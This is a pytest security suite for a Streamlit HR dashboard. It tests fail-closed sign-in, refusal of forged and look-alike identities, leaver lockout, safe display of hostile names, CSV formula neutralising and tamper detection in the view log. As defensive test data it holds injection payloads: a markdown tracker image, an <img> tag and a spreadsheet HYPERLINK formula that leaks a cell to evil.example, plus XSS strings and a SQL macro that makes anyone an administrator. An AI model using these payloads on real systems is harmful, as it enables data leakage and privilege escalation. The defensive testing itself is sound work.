"""Fail closed: the six findings of issue 15, each driven as an attacker (or a careless operator) would.

Real staff data is loaded through the project's own loaders (from a file named like the demo's, which must
not matter), with an access list naming an administrator and a leaver. Then: the sign-in set-up is broken
in each way that used to make every visitor an administrator; identities are forged (unverified, another
tenant, look-alike letters); the leaver signs in; "View as" is looked for; hostile names are shown; and
the view log is read, tampered with, backed up and restored.
"""

from __future__ import annotations

import csv
import datetime as dt
import functools
import io
import re
import shutil
import subprocess
import sys
import tomllib
import unicodedata
from pathlib import Path

import duckdb
import pandas as pd
import pytest
import streamlit as st
from hypothesis import given, settings
from hypothesis import strategies as strategies
from streamlit import config
from test_pages import AUTH, PAGES, ROOT, assert_clean, open_app, persona

from dashboard import sign_in
from dashboard.text import plain
from loaders import audit, maintenance
from loaders.demo import build_demo
from loaders.errors import LoadError, LoadRejected
from loaders.load import load_files

TODAY = dt.date.today()
HOSTILE_NAME = "![t](https://evil.example/track.png) Orla"
FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")'


def read_rows(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def write_rows(path: Path, rows: list[list[str]]) -> Path:
    with open(path, "w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(rows)
    return path


@pytest.fixture(scope="module")
def real(demo_db, tmp_path_factory) -> dict:
    """Real staff data loaded through the loaders, from files named like the demo's; an admin, a leaver, a manager."""
    folder = tmp_path_factory.mktemp("real")
    db = folder / "real.duckdb"
    shutil.copyfile(demo_db, db)
    rows = read_rows(demo_db.parent / "files" / "demo-staff.csv")
    header, people = rows[0], rows[1:]
    column = {name: index for index, name in enumerate(header)}
    managers = {row[column["line_manager_id"]] for row in people if row[column["line_manager_id"]]}
    leaves = [row for row in people if row[column["staff_id"]] not in managers]
    admin, leaver = leaves[0], leaves[1]
    manager = next(row for row in people if row[column["staff_id"]] in managers and row[column["line_manager_id"]])
    # A change, so this is a real load (not the generated data reloaded as it was).
    leaves[2][column["name"]] = "Changed Name"
    everyone = write_rows(folder / "demo-hr-export.csv", [header, *people])
    load_files("staff", [everyone], db)
    access = write_rows(folder / "access.csv", [["email", "role"], [admin[column["email"]], "admin"],
                                                [leaver[column["email"]], "admin"]])
    load_files("access", [access], db)
    fewer = write_rows(folder / "demo-hr-export-next-month.csv", [header, *[row for row in people if row is not leaver]])
    load_files("staff", [fewer], db)
    return {"db": db, "admin": admin[column["email"]], "leaver": leaver[column["email"]],
            "manager": manager[column["email"]], "manager_id": manager[column["staff_id"]]}


@pytest.fixture
def real_db(real, monkeypatch) -> Path:
    monkeypatch.setenv("PROGRESSION_DB", str(real["db"]))
    return real["db"]


@pytest.fixture
def secrets_files(monkeypatch):
    """Point Streamlit's secrets.files at given paths (and forget any secrets it had parsed)."""
    from streamlit.runtime.secrets import secrets_singleton

    before = config.get_option("secrets.files")

    def point(*paths: Path) -> None:
        config.set_option("secrets.files", [str(path) for path in paths])
        secrets_singleton._reset()

    yield point
    config.set_option("secrets.files", before)
    secrets_singleton._reset()


def can_upload(at) -> bool:
    """The Data page's load area: the kind chooser (the file uploader appears once a kind is chosen)."""
    return bool([box for box in at.selectbox if box.key == "data-kind"])


def shows_nothing(at) -> bool:
    return not (at.metric or at.dataframe or at.table or at.get("file_uploader") or can_upload(at) or at.tabs
                or [box for box in at.sidebar.selectbox if box.key == "view_as"])


def signed_in(email: str, auth: dict | None = None, **claims):
    at = open_app(run=False)
    at.secrets["auth"] = auth or AUTH
    at.user = {"is_logged_in": True, "email": email, **claims}
    at.run()
    return at


# ---------------------------------------------------------------- 1. a slip in the sign-in set-up


@pytest.mark.parametrize("page", PAGES)
def test_without_sign_in_real_data_shows_only_how_to_configure_it(real_db, page):
    at = open_app(page)
    assert_clean(at)
    assert shows_nothing(at)
    assert "Sign-in is not configured" in at.warning[0].value
    assert any("docs/security.md" in markdown.value for markdown in at.markdown)
    assert not [caption for caption in at.sidebar.caption if "administrator" in caption.value]


BROKEN_SECRETS = {
    "[Auth]": {"Auth": AUTH},
    "[oauth]": {"oauth": AUTH},
    "keys without a section": AUTH,
    "[auth.microsoft] outside [auth]": {"microsoft": {"client_id": "id", "client_secret": "s",
                                                      "server_metadata_url": "https://example.org/.well-known"}},
    "a misspelt check": {"auth": {**AUTH, "allowed_tennant": "x"}},
    "no client_secret": {"auth": {key: value for key, value in AUTH.items() if key != "client_secret"}},
    "no cookie_secret": {"auth": {key: value for key, value in AUTH.items() if key != "cookie_secret"}},
    "Microsoft's multi-tenant endpoint": {"auth": {**AUTH, "server_metadata_url":
                                          "https://login.microsoftonline.com/common/v2.0/.well-known/openid-configuration"}},
}


@pytest.mark.parametrize("secrets", BROKEN_SECRETS.values(), ids=BROKEN_SECRETS.keys())
@pytest.mark.parametrize("database", ["real", "demo"])
def test_a_slip_in_the_sign_in_secrets_is_an_error_never_a_fallback(request, real, demo_db, monkeypatch, database,
                                                                     secrets):
    monkeypatch.setenv("PROGRESSION_DB", str(real["db"] if database == "real" else demo_db))
    at = open_app(run=False)
    for key, value in secrets.items():
        at.secrets[key] = value
    # Even someone holding a valid admin session gets nothing while the set-up is wrong.
    at.user = {"is_logged_in": True, "email": real["admin"]}
    at.run()
    assert not at.exception
    assert "Sign-in is set up wrongly" in at.error[0].value
    assert shows_nothing(at)


def test_a_secrets_file_that_does_not_parse_is_an_error(real_db, tmp_path, secrets_files):
    broken = tmp_path / "secrets.toml"
    broken.write_text('[auth]\nredirect_uri = "http://localhost:8501/oauth2callback"\ncookie_secret = "x\n')
    secrets_files(broken)
    at = open_app()
    assert "does not parse" in at.error[0].value
    assert shows_nothing(at)


def test_the_apps_own_secrets_lying_unread_is_an_error(real_db, tmp_path, secrets_files, monkeypatch):
    # The server started from another directory, or with --secrets.files naming something else.
    app_secrets = tmp_path / "app" / ".streamlit" / "secrets.toml"
    app_secrets.parent.mkdir(parents=True)
    app_secrets.write_text("[auth]\n" + "".join(f'{key} = "{value}"\n' for key, value in AUTH.items()))
    monkeypatch.setattr(sign_in, "APP_SECRETS", app_secrets)
    secrets_files(tmp_path / "elsewhere" / ".streamlit" / "secrets.toml")
    at = open_app()
    assert "does not read it" in at.error[0].value
    assert shows_nothing(at)
    secrets_files(app_secrets)  # read, it is a proper configuration: the sign-in prompt
    at = open_app(run=False)
    at.user = {"is_logged_in": False}
    at.run()
    assert [button.label for button in at.button] == ["Sign in"]


def test_secrets_without_anything_about_sign_in_are_no_sign_in():
    assert sign_in.classify({}).state == "absent"
    assert sign_in.classify({"database": {"password": "x"}}).state == "absent"
    assert sign_in.classify({"auth": AUTH}).state == "configured"


def test_local_administration_needs_the_opt_in_and_a_server_on_127_0_0_1(real_db, monkeypatch):
    monkeypatch.setenv("PROGRESSION_LOCAL_ADMIN", "1")
    config.set_option("server.address", "0.0.0.0")
    try:
        at = open_app()
        assert "Local administration needs a server bound to this machine" in at.error[0].value
        assert shows_nothing(at)
    finally:
        config.set_option("server.address", None)
    monkeypatch.setenv("PROGRESSION_LOCAL_ADMIN", "yes please")  # only the documented value counts
    assert "Sign-in is not configured" in open_app().warning[0].value


@pytest.mark.parametrize("page", PAGES)
def test_local_administration_says_so_on_every_page(real_db, local_admin, page):
    at = open_app(page)
    assert_clean(at)
    assert "Local administration (PROGRESSION_LOCAL_ADMIN=1)" in at.warning[0].value
    assert not [box for box in at.sidebar.selectbox if box.key == "view_as"]
    if page == "pages/data.py":
        at.selectbox(key="data-kind").set_value("staff").run()
        assert at.get("file_uploader")


def test_dev_start_listens_on_this_machine_unless_told_otherwise(tmp_path):
    # ./dev start's choice of address, with the server replaced by a stand-in that prints its arguments.
    script = (ROOT / "dev").read_text()
    stand_in = tmp_path / "dev"
    stand_in.write_text(script.replace(".venv/bin/python -m deploy.serve", "echo").replace("venv requirements.txt", ":")
                        .replace("one_worker \"$@\" || proxy", ":")
                        .replace('cd "$(dirname "$0")"', ":"))

    def arguments(*extra: str, **environment: str) -> str:
        env = {"PATH": "/usr/bin:/bin", **environment}
        return subprocess.run(["bash", str(stand_in), "start", *extra], capture_output=True, text=True, env=env,
                              check=True).stdout

    assert "--server.address 127.0.0.1" in arguments()
    assert "127.0.0.1" not in arguments("--server.address", "0.0.0.0")
    assert arguments(STREAMLIT_SERVER_ADDRESS="0.0.0.0").rstrip().endswith("--server.address 0.0.0.0")
    assert arguments("--server.address", "0.0.0.0", PROGRESSION_LOCAL_ADMIN="1").rstrip().endswith(
        "--server.address 127.0.0.1")


# ---------------------------------------------------------------- 2. identity is matched loosely


def test_an_unverified_email_is_refused(real_db, real):
    at = signed_in(real["manager"], email_verified=False)
    assert "not verified" in at.warning[0].value
    assert shows_nothing(at)
    assert not shows_nothing(signed_in(real["manager"], email_verified=True))


def test_an_account_from_another_tenant_is_refused(real_db, real):
    tenant = "11111111-2222-3333-4444-555555555555"
    configured = {**AUTH, "server_metadata_url":
                  f"https://login.microsoftonline.com/{tenant}/v2.0/.well-known/openid-configuration"}
    at = signed_in(real["manager"], configured, tid="99999999-2222-3333-4444-555555555555")
    assert "another organisation" in at.warning[0].value
    assert shows_nothing(at)
    assert shows_nothing(signed_in(real["manager"], configured))  # no tid at all: refused too
    assert not shows_nothing(signed_in(real["manager"], configured, tid=tenant))
    # Set explicitly (any provider): the same check, and the issuer check beside it.
    explicit = {**AUTH, "allowed_tenant": "tenant-a", "allowed_issuer": "https://issuer.example/tenant-a"}
    assert shows_nothing(signed_in(real["manager"], explicit, tid="tenant-b", iss="https://issuer.example/tenant-a"))
    assert shows_nothing(signed_in(real["manager"], explicit, tid="tenant-a", iss="https://issuer.example/tenant-b"))
    assert not shows_nothing(signed_in(real["manager"], explicit, tid="tenant-a", iss="https://issuer.example/tenant-a/"))


def look_alikes(email: str) -> list[str]:
    forged = [email.upper(), f"  {email} "]  # these two are the same person, and must match
    for letter, twin in (("k", "\u212a"), ("i", "\u0130"), ("a", "\uff41"), ("e", "\u0435"), ("o", "\u03bf")):
        if letter in email:
            forged.append(email.replace(letter, twin, 1))
    return forged


def test_look_alike_letters_never_sign_in_as_someone_else(real_db, real):
    upper, padded, *lookalikes = look_alikes(real["manager"])
    assert lookalikes, "the manager's email has none of the letters to forge"
    assert not shows_nothing(signed_in(upper))
    assert not shows_nothing(signed_in(padded))
    for forged in lookalikes:
        at = signed_in(forged)
        assert "not set up to use this dashboard" in at.warning[0].value, forged
        assert shows_nothing(at), forged


@functools.cache
def rules_connection() -> duckdb.DuckDBPyConnection:
    from warehouse.build import build_warehouse

    con = duckdb.connect()
    build_warehouse(con)
    return con


@settings(max_examples=300, deadline=None)
@given(strategies.text(max_size=40) | strategies.emails().map(lambda email: email.swapcase()))
def test_the_email_rule_is_nfkc_casefold_strip_and_refuses_anything_beyond_ascii(text):
    (key,) = rules_connection().execute("select email_key(?)", [text]).fetchone()
    trimmed = text.strip(" ")
    if key is None:
        assert not (trimmed and trimmed.isascii() and trimmed.isprintable() and " " not in trimmed)
    else:
        assert key == unicodedata.normalize("NFKC", text).casefold().strip()
        assert key.isascii()


@pytest.mark.parametrize("kind", ["staff", "access"])
def test_the_loaders_refuse_look_alike_emails(demo_db, tmp_path, kind):
    db = tmp_path / "copy.duckdb"
    shutil.copyfile(demo_db, db)
    if kind == "access":
        path = write_rows(tmp_path / "access.csv", [["email", "role"], ["\u212ait.thornbury@example.org", "admin"]])
    else:
        rows = read_rows(demo_db.parent / "files" / "demo-staff.csv")
        rows[1][-1] = rows[1][-1].replace(rows[1][-1][0], "\u0130", 1)
        path = write_rows(tmp_path / "staff.csv", rows)
    with pytest.raises(LoadRejected) as rejection:
        load_files(kind, [path], db)
    assert "plain ASCII" in str(rejection.value)


# ---------------------------------------------------------------- 3. a leaver keeps their access


def test_a_leaver_listed_as_admin_gets_nothing(real_db, real):
    at = signed_in(real["leaver"])
    assert "not set up to use this dashboard" in at.warning[0].value
    assert shows_nothing(at)
    at = signed_in(real["admin"])  # the admin in post still is one
    at.switch_page("pages/data.py")
    at.run()
    assert can_upload(at)
    tidy = next(frame.value for frame in at.dataframe if "Why" in frame.value.columns)
    row = tidy[tidy["Email"] == real["leaver"]].iloc[0]
    assert not row["Grants access today"] and row["Why"] == f"left on {TODAY:%d %b %Y}"


def test_erasure_removes_the_erased_persons_access_row(real, tmp_path):
    db = tmp_path / "copy.duckdb"
    shutil.copyfile(real["db"], db)
    con = duckdb.connect(str(db), read_only=True)
    (staff_id,) = con.execute("select staff_id from staff where email = ?", [real["admin"]]).fetchone()
    con.close()
    maintenance.erase(staff_id, db)
    con = duckdb.connect(str(db), read_only=True)
    try:
        assert con.execute("select count(*) from access where email = ?", [real["admin"]]).fetchone()[0] == 0
        assert con.execute("select count(*) from viewer_access(?)", [real["admin"]]).fetchone()[0] == 0
    finally:
        con.close()


# ---------------------------------------------------------------- 4. "View as" and the demo badge trust a file name


def test_real_data_from_a_demo_named_file_has_no_view_as_and_no_demo_notice(real_db, real):
    at = signed_in(real["admin"])
    assert_clean(at)
    assert at.metric
    assert not [box for box in at.sidebar.selectbox if box.key == "view_as"]
    assert not any("Demo" in caption.value for caption in at.sidebar.caption)


def test_the_demo_flag_is_written_by_the_generator_and_cleared_for_good(real, demo_db, tmp_path):
    def flagged(path: Path) -> int:
        con = duckdb.connect(str(path), read_only=True)
        try:
            return con.execute("select count(*) from demo_marker").fetchone()[0]
        finally:
            con.close()

    assert flagged(demo_db) == 1 and flagged(real["db"]) == 0
    with pytest.raises(LoadError, match="did not write"):
        build_demo(real["db"], folder=tmp_path / "files")
    assert flagged(real["db"]) == 0


def test_during_view_as_the_log_names_the_administrator_and_the_persona(app_db, tmp_path, monkeypatch):
    db = tmp_path / "demo.duckdb"
    shutil.copyfile(app_db, db)
    monkeypatch.setenv("PROGRESSION_DB", str(db))
    at = open_app()
    con = duckdb.connect(str(db), read_only=True)
    choice = persona(at, lambda statement, parameters: con.execute(statement, parameters).fetchall(), "Manager")
    (staff_id,) = con.execute("select staff_id from staff where email = ?", [choice.split(":", 1)[1]]).fetchone()
    con.close()
    at.sidebar.selectbox(key="view_as").set_value(choice).run()
    at.query_params["staff_id"] = staff_id  # the manager's own record, which they may open
    at.switch_page("pages/person.py")
    at.run()
    assert at.header
    assert_clean(at)
    row = audit.view_log(db).iloc[0]
    assert (row["page"], row["viewer_email"], row["viewer_role"]) == ("person", choice.split(":", 1)[1], "manager")
    assert (row["real_email"], row["real_role"]) == ("local", "admin")


# ---------------------------------------------------------------- 5. outputs


def test_the_dataframe_toolbar_cannot_export():
    settings_file = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert settings_file["client"]["disableDataExport"] is True
    assert "client.disableDataExport" in config._config_options  # an option this Streamlit knows


@pytest.fixture
def hostile_db(demo_db, tmp_path, monkeypatch) -> dict:
    """The demo (still flagged: changed in place, not loaded) with hostile names, team and wording."""
    from loaders.database import writing

    db = tmp_path / "hostile.duckdb"
    shutil.copyfile(demo_db, db)
    with writing(db) as con:
        staff_id, team = con.execute("select staff_id, team from readiness where target_level is not null "
                                     "order by staff_id limit 1").fetchone()
        other = con.execute("select staff_id from readiness where team = ? and staff_id <> ? order by staff_id limit 1",
                            [team, staff_id]).fetchone()[0]
        con.execute("update staff set name = ? where staff_id = ?", [HOSTILE_NAME, staff_id])
        con.execute("update staff set name = ? where staff_id = ?", [FORMULA_NAME, other])
        con.execute("update staff set team = ? where team = ?", [f"<img src=https://evil.example/t.png> {team}", team])
        con.execute("update criteria set criterion = '![c](https://evil.example/c.png) ' || criterion")
    monkeypatch.setenv("PROGRESSION_DB", str(db))
    return {"db": db, "staff_id": staff_id, "team": f"<img src=https://evil.example/t.png> {team}"}


def unescaped(markdown: str, specials: str = "![]<>`*_$") -> list[str]:
    """Markdown constructs left live: a special character not preceded by a backslash."""
    live, previous = [], ""
    for index, character in enumerate(markdown):
        if character in specials and previous != "\\":
            live.append(markdown[max(0, index - 10):index + 10])
        previous = "" if previous == "\\" else character
    return live


def without_our_directives(markdown: str) -> str:
    """The text with our own colour and size directives (`:gray[...]`, `:small[...]`) taken off, brackets and
    all, so that what is left is the data value: any bracket it still has is one the data brought."""
    kept, open_directives, index = [], 0, 0
    while index < len(markdown):
        directive = re.match(r":(?:small|gray|grey|red|orange|green|blue|violet)\[", markdown[index:])
        escaped = index > 0 and markdown[index - 1] == "\\"
        if directive and not escaped:
            open_directives += 1
            index += directive.end()
            continue
        if markdown[index] == "]" and open_directives and not escaped:
            open_directives -= 1
        else:
            kept.append(markdown[index])
        index += 1
    return "".join(kept)


def test_hostile_names_are_shown_as_text_on_every_page(hostile_db):
    person = open_app("pages/person.py", params={"staff_id": hostile_db["staff_id"]})
    assert_clean(person)
    assert person.header[0].value == plain(HOSTILE_NAME)
    team = open_app("pages/team.py", params={"team": hostile_db["team"]})
    assert_clean(team)
    for at in (person, team, open_app("pages/blockers.py"), open_app("pages/framework.py"),
               open_app("pages/succession.py")):
        assert_clean(at)
        texts = [element.value for kind in ("title", "header", "subheader", "caption", "markdown", "info", "warning")
                 for element in getattr(at, kind) if isinstance(element.value, str)]
        texts += [element.value for element in at.sidebar.caption]
        # Our own Markdown (bold categories, list items) stays; nothing that makes an image, link or HTML does.
        assert not [text for text in texts
                    if "evil.example" in text and unescaped(without_our_directives(text), "![]<>")]
        cells = [str(value) for table in at.table for value in table.value.to_numpy().ravel()]
        assert not [cell for cell in cells if "evil.example" in cell and unescaped(cell, "![]<>")]


def test_plain_text_leaves_no_markdown_live():
    for text in (HOSTILE_NAME, "<img src=x onerror=alert(1)>", "$x^2$", ":red[alert]", "`code`", "**bold**",
                 "- listed", "1. listed", "# heading", "a\nb", "[link](javascript:alert(1))", "~~gone~~"):
        assert not unescaped(plain(text)), text
    assert plain("Contact Centre (Telephony)") == "Contact Centre (Telephony)"


@pytest.fixture
def downloads(monkeypatch) -> list:
    """Every download button drawn: (file name, the callable or bytes it would serve)."""
    drawn = []
    original = st.download_button

    def recording(label, data, **options):
        drawn.append((options.get("file_name"), data))
        return original(label, data, **options)

    monkeypatch.setattr(st, "download_button", recording)
    return drawn


def test_a_formula_name_downloads_inert(hostile_db, downloads):
    at = open_app("pages/team.py", params={"team": hostile_db["team"]})
    assert_clean(at)
    file_name, make = next(item for item in downloads if item[0].startswith("team-members"))
    frame = pd.read_csv(io.BytesIO(make()), encoding="utf-8-sig", dtype=str)
    assert ("'" + FORMULA_NAME) in set(frame["Name"])
    assert not frame.map(lambda cell: isinstance(cell, str) and cell.startswith(("=", "+", "@"))).any().any()


# ---------------------------------------------------------------- 6. the view log


def views(db: Path) -> pd.DataFrame:
    return audit.view_log(db, limit=10_000)


@pytest.fixture
def logged_demo(demo_db, tmp_path, monkeypatch) -> Path:
    db = tmp_path / "logged.duckdb"
    shutil.copyfile(demo_db, db)
    monkeypatch.setenv("PROGRESSION_DB", str(db))
    return db


def test_every_view_of_personal_data_and_every_download_is_logged(logged_demo, downloads):
    con = duckdb.connect(str(logged_demo), read_only=True)
    team = con.execute("select team from readiness group by team order by count(*) desc limit 1").fetchone()[0]
    con.close()
    at = open_app("pages/team.py", params={"team": team})
    at.run()  # a rerun is the same view
    assert_clean(at)
    blockers = open_app("pages/blockers.py")
    succession = open_app("pages/succession.py")
    for app in (blockers, succession):
        assert_clean(app)
    log = views(logged_demo)
    by_page = {page: group for page, group in log[log["action"] == "view"].groupby("page")}
    assert set(by_page) >= {"team", "blockers", "succession"}
    (team_row,) = by_page["team"].itertuples()
    assert team_row.subject == team and team_row.people == len(at.dataframe[0].value)
    assert '"team": "' + team + '"' in team_row.filters
    assert team_row.viewer_email == "local" and team_row.viewer_role == "admin"
    blocked_row = by_page["blockers"].iloc[0]
    assert blocked_row["subject"] == blockers.selectbox(key="blocker-pick").value
    assert blocked_row["people"] == len(blockers.dataframe[-1].value)
    assert by_page["succession"].iloc[0]["subject"] == succession.selectbox(key="succession-role").value

    file_name, make = next(item for item in downloads if item[0].startswith("team-members"))
    rows = len(pd.read_csv(io.BytesIO(make()), encoding="utf-8-sig"))
    pack_name, pack = next(item for item in downloads if item[0].endswith(".xlsx"))
    pack()
    log = views(logged_demo)
    got = log[log["action"] == "download"]
    assert set(got["subject"]) >= {file_name, pack_name}
    assert got[got["subject"] == file_name].iloc[0]["people"] == rows
    assert got[got["subject"] == pack_name].iloc[0]["page"] == "succession"
    assert audit.verify(logged_demo).is_intact


def log_some(db: Path, count: int = 5) -> None:
    for number in range(count):
        audit.record("person", viewer_email=f"viewer{number}@example.org", viewer_role="manager",
                     staff_id=f"S{number:04d}", people=1, filters={"as_of": "2026-01-01"}, db=db)


def run_verify(db: Path) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "loaders", "audit", "verify", "--db", str(db)], cwd=ROOT,
                          capture_output=True, text=True)


TAMPERING = {
    "a viewer changed": ("update view_log set viewer_email = 'someone.else@example.org' where seq = 3", 3),
    "a row deleted": ("delete from view_log where seq = 3", 3),
    "a person changed": ("update view_log set staff_id = 'S9999' where seq = 2", 2),
    "a time changed": ("update view_log set viewed_at = viewed_at - interval 1 day where seq = 4", 4),
    "two rows swapped": ("update view_log set seq = case seq when 2 then 3 else 2 end where seq in (2, 3)", 2),
    "a row copied onto the end": ("insert into view_log select * replace (6 as seq) from view_log where seq = 2", 6),
}


@pytest.mark.parametrize("sql, broken_at", TAMPERING.values(), ids=TAMPERING.keys())
def test_editing_the_view_log_with_plain_duckdb_is_found(tmp_path, sql, broken_at):
    db = tmp_path / "progression.duckdb"
    log_some(db)
    intact = run_verify(db)
    assert intact.returncode == 0 and "intact: 5 row(s)" in intact.stdout
    con = duckdb.connect(str(audit.audit_path(db)))
    con.execute(sql)
    con.close()
    found = run_verify(db)
    assert found.returncode == 1
    assert f"BROKEN at row {broken_at}" in found.stdout


def test_erasure_keeps_the_chain_valid_and_removes_the_id(real, tmp_path):
    db = tmp_path / "copy.duckdb"
    shutil.copyfile(real["db"], db)
    audit.record("person", viewer_email="a@example.org", viewer_role="admin", staff_id=real["manager_id"], db=db)
    replacement = maintenance.erase(real["manager_id"], db)
    assert audit.verify(db).is_intact
    assert list(views(db)["staff_id"]) == [replacement]


def test_backup_and_restore_carry_the_view_log(demo_db, tmp_path):
    db = tmp_path / "live.duckdb"
    shutil.copyfile(demo_db, db)
    log_some(db, 3)
    maintenance.backup(tmp_path / "backup", db)
    assert (tmp_path / "backup" / audit.BACKUP_FILE).is_file()
    # Restored onto another machine (no view log there): it comes back, chain intact.
    elsewhere = tmp_path / "elsewhere" / "progression.duckdb"
    assert "restored" in maintenance.restore(tmp_path / "backup", elsewhere)
    assert len(views(elsewhere)) == 3 and audit.verify(elsewhere).is_intact
    # Restored in place after more views: the live log continues the backup's and keeps its newer rows.
    log_some(db, 2)
    assert "unchanged" in maintenance.restore(tmp_path / "backup", db)
    assert len(views(db)) == 5 and audit.verify(db).is_intact
    # A live log that does not continue the backup's is kept aside, not lost.
    audit.audit_path(elsewhere).unlink()
    log_some(elsewhere, 1)
    message = maintenance.restore(tmp_path / "backup", elsewhere)
    assert "kept as" in message and len(views(elsewhere)) == 3
    assert list(audit.audit_path(elsewhere).parent.glob("*.replaced-*.duckdb"))


def test_a_log_from_before_the_chain_is_sealed_into_it(tmp_path):
    db = tmp_path / "progression.duckdb"
    con = duckdb.connect(str(audit.audit_path(db)))
    con.execute("create table view_log (viewed_at timestamp not null, viewer_email varchar, viewer_role varchar, "
                "staff_id varchar not null, page varchar not null)")
    con.execute("insert into view_log values (timestamp '2026-01-02 10:00', 'a@example.org', 'admin', 'S0001', 'person'),"
                "(timestamp '2026-01-01 09:00', 'b@example.org', 'manager', 'S0002', 'person')")
    con.close()
    log_some(db, 1)
    log = views(db)
    assert list(log["staff_id"]) == ["S0000", "S0001", "S0002"]
    assert audit.verify(db).rows == 3


def test_the_administrator_filters_the_view_log(logged_demo):
    log_some(logged_demo, 4)
    at = open_app("pages/data.py")
    assert_clean(at)
    at.text_input(key="view-log-viewer").set_value("viewer2@").run()
    shown = next(frame.value for frame in at.dataframe if "Signed in as" in frame.value.columns)
    assert list(shown["Viewer"]) == ["viewer2@example.org"]
    at.text_input(key="view-log-viewer").set_value("").run()
    at.text_input(key="view-log-person").set_value("S0003").run()
    shown = next(frame.value for frame in at.dataframe if "Signed in as" in frame.value.columns)
    assert list(shown["Person (staff id)"]) == ["S0003"]


def test_a_database_left_with_an_older_versions_sql_is_brought_up_to_date_before_use(real, tmp_path, monkeypatch):
    # An upgrade of the code over a live database: its stored macros are the old ones (here, one that would make
    # anybody an administrator) until something rebuilds them. The dashboard does so on first use, like a load.
    db = tmp_path / "old.duckdb"
    shutil.copyfile(real["db"], db)
    con = duckdb.connect(str(db))
    con.execute("create or replace macro viewer_access(viewer_email) as table "
                "select lower(trim(viewer_email)) as email, 'admin' as access_role, null::varchar as staff_id")
    con.execute("update views_fingerprint set sha256 = 'an older version'")
    con.close()
    monkeypatch.setenv("PROGRESSION_DB", str(db))
    at = signed_in(real["leaver"])
    assert "not set up to use this dashboard" in at.warning[0].value
    assert shows_nothing(at)
